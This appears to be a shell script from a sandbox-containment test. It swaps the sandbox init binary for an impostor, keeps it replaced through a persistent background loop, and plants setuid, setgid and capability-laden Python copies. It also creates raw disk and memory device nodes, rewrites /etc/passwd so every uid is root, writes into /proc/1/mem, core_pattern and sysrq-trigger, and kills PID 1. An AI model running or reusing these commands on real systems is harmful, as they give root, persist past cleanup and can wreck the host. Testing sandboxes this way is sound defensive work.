# Replaces sandbox-init, also again later in the background, and changes every file that could make a user root.
cat > /opt/impostor <<'PROGRAM'
@IMPOSTOR@
PROGRAM
chmod 755 /opt/impostor
rm -f /sandbox-init
cp /opt/impostor /sandbox-init
setsid nohup sh -c 'trap "" TERM HUP INT; while :; do cp /opt/impostor /next; mv /next /sandbox-init; done' > /dev/null 2>&1 &
cp /usr/bin/python3 /opt/rootpython
chmod 4755 /opt/rootpython
cp /usr/bin/python3 /opt/grouppython
chmod 2755 /opt/grouppython
cp /usr/bin/python3 /opt/capable
python3 -c 'import os; os.setxattr("/opt/capable", "security.capability", bytes.fromhex("0100000200ffffff00000000ffffff0000000000"))' \
    2> /opt/setcap-error || true
mknod /opt/disk b 8 0 2> /opt/mknod-error || true
mknod /opt/memory c 1 1 2>> /opt/mknod-error || true
# Names every sandbox's uid root and adds it to every group.
awk -F: '{ print $3 ":x:0:0::/:/bin/sh" }' /etc/passwd > /etc/passwd.new
cat /etc/passwd >> /etc/passwd.new
mv /etc/passwd.new /etc/passwd
sed -i 's/$/,runner,100000/' /etc/group
for target in 1/mem 1/fd/1 1/environ sys/kernel/core_pattern sysrq-trigger; do
    (echo x > "/proc/$target") 2>> /opt/proc-error && echo "opened $target" >> /opt/opened || true
done
kill -9 1 || true
